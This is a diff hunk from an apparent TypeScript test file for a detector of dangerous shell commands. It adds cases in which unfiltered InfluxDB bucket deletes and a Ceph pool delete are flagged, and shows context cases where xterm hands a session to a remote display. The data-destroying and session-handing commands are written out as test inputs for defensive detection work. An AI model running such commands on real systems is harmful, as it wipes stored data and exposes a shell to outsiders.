@@ -66,6 +66,12 @@ describe("commands that destroy without a filter (commands-unfiltered.ts)", () =
     expect(DEVICE_WIPE.test("no router bgp " + " ".repeat(20000) + "x"), "long").toBe(false);
   });
 
+  it("finds a time-series store or a storage pool emptied without a filter, not a predicate or a test store", () => {
+    expect(unfiltered("influx delete --bucket coldchain --start 2025-11-01T00:00:00Z --stop 2026-11-22T00:00:00Z")).toEqual(["dangerous_command.recovery_delete"]);
+    expect(unfiltered("ceph osd pool delete vms vms --yes-i-really-really-mean-it")).toEqual(["dangerous_command.recovery_delete"]);
+    for (const l of ["influx delete --bucket x --start 2026-11-01T00:00:00Z --stop 2026-11-02T00:00:00Z --predicate _measurement=debug", "influx delete --bucket test-bucket --start a --stop b", "ceph osd pool delete test-pool test-pool --yes-i-really-really-mean-it", "ceph osd pool ls detail"]) expect(unfiltered(l), l).toEqual([]);
+  });
+
   it("finds a session handed to an outside screen, not the local display", () => {
     expect(unfiltered("xterm -display 203.0.113.40:1")).toEqual(["dangerous_command.reverse_shell"]);
     expect(unfiltered("xterm -e bash", ["DISPLAY=198.51.100.7:0"])).toEqual(["dangerous_command.reverse_shell"]);
